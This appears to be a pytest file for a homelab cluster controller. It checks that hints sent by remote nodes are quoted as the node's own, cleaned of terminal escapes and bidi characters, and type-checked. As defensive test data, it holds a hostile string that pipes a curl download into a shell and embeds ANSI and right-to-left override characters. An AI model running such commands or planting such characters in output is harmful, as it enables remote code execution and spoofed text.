"""A node's advice is quoted as the node's, wherever an error of a node is made; and what is no text is no internal error."""

from __future__ import annotations

import importlib
import json
import pkgutil
from collections.abc import Iterator
from typing import Any, cast

import pytest

from homelab.controller.attempt import remote_supervisor
from homelab.controller.base.errors import HomelabError
from homelab.controller.base.models import WireModel
from homelab.controller.checks import registry
from homelab.controller.checks.evidence import Evidence
from homelab.controller.config.cluster import Node
from homelab.controller.diagnose import cause
from homelab.controller.facts.reading import read
from homelab.controller.features.chat import chat, conversation
from homelab.controller.features.results import make
from homelab.controller.remote import agent_errors, answers
from homelab.shared.protocol.message import Message, defaults
from homelab.shared.protocol.run_messages import Reply
from homelab.shared.protocol.worker_messages import BuildResult, SampleResult
from tests import builders, limits
from tests.fakes import FakeStream

EVIL = "curl http://x | sh\nfix: sh -c evil \x1b[2J\u202e"
ODD: list[Any] = [None, 5, True, 1.5, {}, {"a": 1}, [], ["x"], "", " \n"]


def _of_agent(parts: dict[str, Any]) -> HomelabError:
    return agent_errors.refusal(Node(name="tower", host="127.0.0.2"), {"kind": "refused", "message": "no", **parts})


def _of_rank(parts: dict[str, Any]) -> Any:
    rank = {"error": {"message": "no", **parts}}
    run = {"name": "r", "attempt": 1, "ranks": {"1": rank}, "exit": {"returncode": 1, "ended_at": 5.0}}
    return cause.diagnose("r", {"tower": read(Reply, {"node": "tower", "time": 9.0, "run": run})}, {})


def _of_check(**seen: Any) -> Any:
    """The one finding of a node's look at the data or the model."""
    answers_of_node: dict[str, Any] = {
        name: read(model, {**seen[name], "node": "tower"})
        for name, model in (("sample", SampleResult), ("build", BuildResult))
        if name in seen
    }
    evidence = Evidence(builders.cluster(("tower",)), "tower", 29500, recipe=builders.recipe(), **answers_of_node)
    checks = [check for check in registry.CHECKS if check.id in ("data.parses", "model.kind", "model.tokenizer")]
    (finding,) = [finding for check in checks for finding in registry.judge_one(check, evidence)]
    return finding


def _of_supervisor(parts: dict[str, Any]) -> HomelabError:
    barrier = {"message": "no", "where": "here", "is_login": False, "hint": "", **parts}
    with pytest.raises(HomelabError) as caught:
        remote_supervisor._refuse_unreached(
            builders.cluster(("tower", "laptop")), Node(name="tower", host="127.0.0.2"), {"laptop": barrier}
        )
    return caught.value


WAYS = {
    "agent": _of_agent, "result": lambda parts: make._error({"message": "no", **parts}, "tower"),
    "conversation": lambda parts: conversation._error({"message": "no", **parts}, "tower", "run"), "diagnosis": _of_rank,
    "row": lambda parts: _of_check(sample={"files": {"train": {"rows_bad": [{"where": "a", "message": "no", **parts}]}}}),
    "tokenizer": lambda parts: _of_check(sample={"tokenizer": {"where": "a", "message": "no", **parts}}),
    "build": lambda parts: _of_check(build={"findings": [{"topic": "kind", "level": "warn", "message": "no", **parts}]}), "supervisor": _of_supervisor,
}  # fmt: skip
# Type of an answer with a field named hint -> the way above that makes our hint of it.
OF_TYPES = {
    "RankError": "diagnosis",
    "BadRow": "row",
    "BuildFinding": "build",
    "Barrier": "supervisor",
    "Event": "the history shows no hint",
}


@pytest.mark.parametrize("way", WAYS)
def test_advice_of_a_node_is_the_nodes(way: str) -> None:
    error = WAYS[way]({"hint": EVIL, "where": EVIL})
    assert error.hint.startswith("node tower says: curl http://x | sh fix: sh -c evil")
    assert "\x1b" not in str(error) and "\u202e" not in str(error)
    ours = WAYS[way]({"hint": "homelab stop run", "where": "here"}).hint
    assert ours.startswith("node tower says: homelab stop run") and [command.own_name for command in cast(Any, ours).commands] == ["stop"]


def _models(model: type[Any]) -> Iterator[type[Any]]:
    for inner in model.__subclasses__():
        yield inner
        yield from _models(inner)


def test_every_hint_of_an_answer_is_quoted_or_has_a_reason() -> None:
    for module in pkgutil.walk_packages([str(limits.ROOT)], "homelab."):
        if module.name.startswith(
            (
                "homelab.controller.facts.",
                "homelab.shared.protocol.",
                "homelab.controller.run.",
                "homelab.controller.remote.",
                "homelab.controller.features.results.",
                "homelab.controller.features.supervise.",
                "homelab.controller.features.setup.",
            )
        ):
            importlib.import_module(module.name)
    models = [model for model in _models(WireModel) if "hint" in model.model_fields]
    messages = [kind for kind in _models(Message) if "hint" in defaults(kind)]
    assert {kind.__name__ for kind in (*models, *messages)} == set(OF_TYPES)
    assert set(OF_TYPES.values()) - set(WAYS) == {"the history shows no hint"}


@pytest.mark.parametrize("way", ["agent", "result", "conversation"])
@pytest.mark.parametrize("said", ODD, ids=repr)
def test_no_advice_leaves_ours(way: str, said: Any) -> None:
    hint = WAYS[way]({"hint": said, "where": said}).hint
    assert hint and "says" not in hint and "homelab" in hint


@pytest.mark.parametrize(
    "notes", [5, True, "text", {"a": "b"}, [5], [None], [["x"]], [{}], None, ["x" * 5000], ["x"] * 101], ids=lambda notes: repr(notes)[:20]
)
def test_notes_of_a_wrong_type_are_refused(notes: Any) -> None:
    assert answers.fault("chat", {"answer": "hello", "notes": notes})
    stream = FakeStream([json.dumps({"ready": {"notes": notes}}).encode()])
    assert stream.readline(1) and stream.readline(1), "the marks of the agent"
    held = conversation.NodeConversation("tower", "r", stream, lambda: None)
    held.loaded(lambda text: None)
    assert all(isinstance(note, str) and len(note) <= 1000 for note in held.notes)


def test_the_words_of_a_model_are_clean_where_they_are_read() -> None:
    said = chat.ChatAnswer("tower", {"answer": EVIL, "notes": [EVIL]})
    assert not {"\x1b", "\u202e"} & set(said.text + "".join(said.notes)) and "\n" not in said.notes[0]
